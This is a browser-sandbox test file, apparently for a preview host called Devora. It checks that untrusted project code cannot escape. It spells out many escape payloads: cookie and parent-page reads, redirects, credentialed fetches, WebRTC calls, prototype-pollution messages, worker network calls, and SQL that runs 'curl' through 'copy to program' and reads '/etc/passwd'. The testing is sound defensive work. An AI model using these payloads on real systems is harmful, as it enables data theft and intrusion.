import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import type { AddressInfo } from 'node:net'
import type { Frame } from 'playwright'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { notesProject } from '../support/notes-project'
import { openPreviewHost, type PreviewHost, shown, SITE, type Tab } from '../support/preview-tab'

/*
 * A project that wants out of its preview, in a real browser. Whatever it does in a document, in its server's worker or
 * in SQL: no connection reaches anybody, the page around it is as it was, and that page goes on answering.
 */

/** What a document tries. `away` is a stranger's host, `home` the one that Devora is at; both count what arrives. */
type Place = { away: string; home: string; port: number }
type Trick = (place: Place) => unknown

/** Run in the document, so each is a function on its own. */
const TRICKS: Readonly<Record<string, Trick>> = {
  'reads the page around': () => [parent.document.title, top!.document.title],
  'reads its address': () => top!.location.href,
  'reads its cookies through a fresh frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return frame.contentDocument!.cookie
  },
  'sends the whole tab elsewhere': ({ away }) => top!.location.replace(away),
  'sends the frame around elsewhere': ({ away }) => parent.location.replace(away),
  'opens a window': ({ away }) => {
    if (open(away) !== null) throw new Error('opened')
  },
  'opens a window by a link': ({ away }) => {
    const link = document.body.appendChild(document.createElement('a'))
    Object.assign(link, { href: away, target: '_blank' })
    HTMLAnchorElement.prototype.click.call(link)
  },
  'downloads a file': () => {
    const link = document.body.appendChild(document.createElement('a'))
    Object.assign(link, { href: 'data:application/octet-stream,hello', download: 'hello.exe' })
    HTMLAnchorElement.prototype.click.call(link)
  },
  'asks the API with credentials': ({ home }) => fetch(`${home}/api/v2/me`, { credentials: 'include' }),
  'asks the API from a fresh frame': ({ home }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return (frame.contentWindow as unknown as typeof globalThis).fetch(`${home}/api/v2/me`, { mode: 'no-cors' })
  },
  'asks by XMLHttpRequest of a fresh frame': ({ away }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    const request = new (frame.contentWindow as unknown as typeof globalThis).XMLHttpRequest()
    request.open('GET', away, false)
    request.send()
  },
  'opens a socket': ({ away }) => new WebSocket(away.replace('http', 'ws')),
  'follows events': ({ away }) => new EventSource(away),
  'sends a beacon': ({ away }) => navigator.sendBeacon(away, 'x'),
  'loads a picture': ({ away }) => {
    new Image().src = away
  },
  'loads a style': ({ away }) => {
    document.head.insertAdjacentHTML(
      'beforeend',
      `<style>@import url(${away}/a.css); body { background: url(${away}/b.png) }
       @font-face { font-family: x; src: url(${away}/c.woff) } body { font-family: x }</style>`,
    )
  },
  'loads a script': ({ away }) => {
    document.head.appendChild(document.createElement('script')).src = away
  },
  'imports a module': ({ away }) => new Function('away', 'return import(away)')(`${away}/x.js`),
  'has things fetched ahead': ({ away }) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'])
      document.head.insertAdjacentHTML('beforeend', `<link rel="${rel}" as="script" href="${away}/${rel}">`)
  },
  'has a connection opened ahead': ({ away }) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="${away}">`),
  'has a page fetched by rules': ({ away }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${away}/rules`], eagerness: 'immediate' }],
    })
    document.head.append(script)
  },
  'sends a form': ({ away }) => {
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { action: away, method: 'POST' })
    HTMLFormElement.prototype.submit.call(form)
  },
  'shows a frame of another host': ({ away }) => {
    document.body.appendChild(document.createElement('iframe')).src = away
  },
  'embeds an object': ({ away }) =>
    document.body.insertAdjacentHTML('beforeend', `<object data="${away}/o"></object><embed src="${away}/e">`),
  'goes elsewhere by a fresh frame': ({ away }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.contentWindow!.location.href = away
  },
  'goes elsewhere itself': ({ away }) => {
    new Function('away', 'window["loc" + "ation"].href = away')(away)
  },
  'goes elsewhere after a while': ({ away }) =>
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${away}">`),
  'registers a service worker': () => navigator.serviceWorker.register('/sw.js'),
  'starts a worker that asks': ({ away }) => {
    const code = `fetch('${away}/w').catch(() => 0); try { importScripts('${away}/i.js') } catch {}`
    return new Worker(URL.createObjectURL(new Blob([code])))
  },
  'starts a worker of another host': ({ away }) => new Worker(away),
  'calls a peer': ({ port }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    const call = async (Peer: typeof RTCPeerConnection): Promise<void> => {
      const urls = [`stun:127.0.0.1:${port}`, `turn:127.0.0.1:${port}?transport=tcp`]
      const peer = new Peer({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    }
    const ownOf = async (): Promise<void> => call(window.RTCPeerConnection)
    const freshOf = async (): Promise<void> =>
      call((frame.contentWindow as unknown as typeof globalThis).RTCPeerConnection)
    return Promise.allSettled([ownOf(), freshOf()])
  },
  'has a document of its own call a peer': ({ port }) => {
    const urls = [`stun:127.0.0.1:${port}`, `turn:127.0.0.1:${port}?transport=tcp`]
    const code = `const peer = new RTCPeerConnection(${JSON.stringify({
      iceServers: [{ urls, username: 'secret', credential: 'x' }],
    })}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`
    document.body.appendChild(document.createElement('iframe')).srcdoc = `<script>${code}</${'script'}>`
  },
  'asks for the place, the camera and the clipboard': async () => {
    const asked = await Promise.allSettled([
      new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed)),
      navigator.mediaDevices.getUserMedia({ video: true }),
      navigator.clipboard.readText(),
      Notification.requestPermission().then((said) => (said === 'granted' ? said : Promise.reject(new Error(said)))),
    ])
    if (asked.some(({ status }) => status === 'fulfilled')) throw new Error('granted')
  },
  'speaks to the page around as if it were the frame': () => {
    for (const to of [parent, top!])
      for (const data of [
        { type: 'connect', nonce: 'n' },
        { name: 'leaves', value: 'x' },
        { id: 1, value: 'x' },
      ])
        to.postMessage(data, '*', [new MessageChannel().port2])
  },
  'asks the bridge for what every object has': () => {
    // The port is caught when the document itself speaks next.
    const send = MessagePort.prototype.postMessage
    MessagePort.prototype.postMessage = function (this: MessagePort, ...given: [unknown]) {
      MessagePort.prototype.postMessage = send
      for (const name of ['__proto__', 'constructor', 'toString', 'valueOf', 'open', 'dump', 'signIn', 'rows'])
        for (const type of ['call', 'tell'])
          send.call(this, { type, id: 9, name, value: JSON.parse('{"__proto__":{"polluted":1}}') } as never)
      return send.apply(this, given)
    } as typeof send
    history.pushState(null, '', '/?spoken')
  },
  'prints and moves ten thousand times': () => {
    for (let at = 0; at < 10_000; at++) {
      history.pushState(null, '', `/?${at}`)
      dispatchEvent(new ErrorEvent('error', { message: `again ${at}` }))
    }
  },
  'asks its own server ten thousand times': async () => {
    await Promise.allSettled(Array.from({ length: 10_000 }, (_, at) => fetch(`/nowhere/${at}`)))
  },
}

const SERVER = `export const dynamic = 'force-dynamic'
export async function GET() {
  const away = 'AWAY'
  const tries: [string, () => unknown][] = [
    ['fetch', () => fetch(away + '/s')],
    ['fetch of the prototype', () => (Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch ?? fetch)(away)],
    ['XMLHttpRequest', () => { const one = new XMLHttpRequest(); one.open('GET', away, false); one.send() }],
    ['WebSocket', () => new Promise((_, no) => {
      const one = new WebSocket(away.replace('http', 'ws'))
      one.onerror = no
      one.onclose = no
    })],
    ['importScripts', () => importScripts(away + '/i.js')],
    ['import', () => new Function('away', 'return import(away)')(away + '/m.js')],
    ['Worker', () => new Promise((yes, no) => {
      const one = new Worker(away)
      one.onerror = no
      one.onmessage = yes
    })],
    ['file', () => new Function('return import("node:fs")')()],
    ['storage', () => indexedDB.open('x')],
    ['caches', () => caches.open('x')],
  ]
  const said: string[] = []
  for (const [name, work] of tries)
    try { await work(); said.push(name) } catch { /* refused */ }
  return Response.json(said)
}
declare const importScripts: (address: string) => void`

const SQL = `create extension if not exists pg_trgm;
do $$ begin
  begin execute 'copy (select 1) to program ''curl AWAY/sql'''; exception when others then null; end;
  begin perform pg_read_file('/etc/passwd'); exception when others then null; end;
  begin execute 'create extension dblink'; exception when others then null; end;
  begin perform lo_export(lo_from_bytea(0, 'x'), '/tmp/devora-out'); exception when others then null; end;
end $$;
`

let host: PreviewHost
let away: Server
let udp: UdpSocket
let place: Place
/** Everything that arrived at the stranger's, whatever it was. */
const arrived: string[] = []
let tab: Tab & { opened: unknown }

beforeAll(async () => {
  away = createServer((socket) => {
    arrived.push('connection')
    socket.on('error', () => undefined)
    socket.on('data', (data) => arrived.push(data.toString('latin1').slice(0, 80)))
  })
  await new Promise<void>((resolve) => away.listen(0, '127.0.0.1', resolve))
  const { port } = away.address() as AddressInfo
  udp = createSocket('udp4', () => arrived.push('datagram'))
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve))
  host = await openPreviewHost()
  place = { away: `http://127.0.0.1:${port}`, home: host.home, port }
  await host.serve(
    'hostile',
    notesProject({
      'app/server/route.ts': SERVER.replace('AWAY', place.away),
      'supabase/migrations/0_hostile.sql': SQL.replace('AWAY', place.away),
    }),
  )
  tab = await host.openTab('hostile')
  await tab.page.context().addCookies([{ name: 'session', value: 'devoras', url: host.home }])
  await tab.page.evaluate(`localStorage.setItem('mine', 'devoras'); document.title = 'Devora'`)
  await tab.ask('person', { id: 'ana', kept: null })
})
afterAll(async () => {
  await host?.close()
  away?.close()
  udp?.close()
})

let windows = 0
let downloads = 0
let asked = 0
beforeEach(async () => {
  const { page } = tab
  if (windows + downloads + asked === 0) {
    page.context().on('page', () => windows++)
    page.on('download', () => downloads++)
    page.on('dialog', (dialog) => {
      asked++
      void dialog.dismiss()
    })
  }
  await tab.ask('navigate', { person: 'ana', url: SITE })
  await shown(tab, 'h1:text("Notes")')
  arrived.length = 0
  host.hits.length = 0
})

/** Documents that may have taken themselves away: of the browser's word that it did not go there nothing answers. */
const LEAVES = /^(?:sends a form|goes elsewhere (?:itself|after a while))$/

/** What has to be as it was. @param isGone whether the document may be gone; the frame around it is not */
async function expectNothing(isGone = false): Promise<void> {
  // A connection takes a moment; one that comes later is seen by the test after.
  await tab.page.waitForTimeout(400)
  expect(arrived).toEqual([])
  expect(host.hits).toEqual([])
  expect([windows, downloads, asked]).toEqual([0, 0, 0])
  expect(tab.page.url()).toBe(`${host.home}/`)
  expect(await tab.page.title()).toBe('Devora')
  expect(await tab.page.evaluate(`[localStorage.getItem('mine'), ({}).polluted ?? null]`)).toEqual(['devoras', null])
  expect(await tab.ask('members', null)).toHaveLength(2)
  expect(isGone ? null : await tab.ask('ping', null)).toBeNull()
}

const runIn = (frame: Frame, trick: Trick): Promise<unknown> =>
  Promise.race([
    frame.evaluate(`Promise.resolve((${String(trick)})(${JSON.stringify(place)})).then(String, String)`),
    tab.page.waitForTimeout(20_000),
  ]).catch((error: unknown) => String(error))

test.each(Object.entries(TRICKS))('a document that %s gets nowhere', async (name, trick) => {
  const said = await runIn(await shown(tab, 'h1:text("Notes")'), trick)
  expect(String(said)).not.toMatch(/devoras|Devora|opened|granted/)
  await expectNothing(LEAVES.test(name))
})

test('a server that tries every way out of its worker finds none', async () => {
  const frame = await shown(tab, 'h1:text("Notes")')
  expect(await frame.evaluate(() => fetch('/server').then((answer) => answer.json()))).toEqual([])
  await expectNothing()
})

test('SQL that runs programs and reads files changes nothing outside of the tab', async () => {
  expect(tab.opened).toEqual({ problem: null })
  await expectNothing()
})
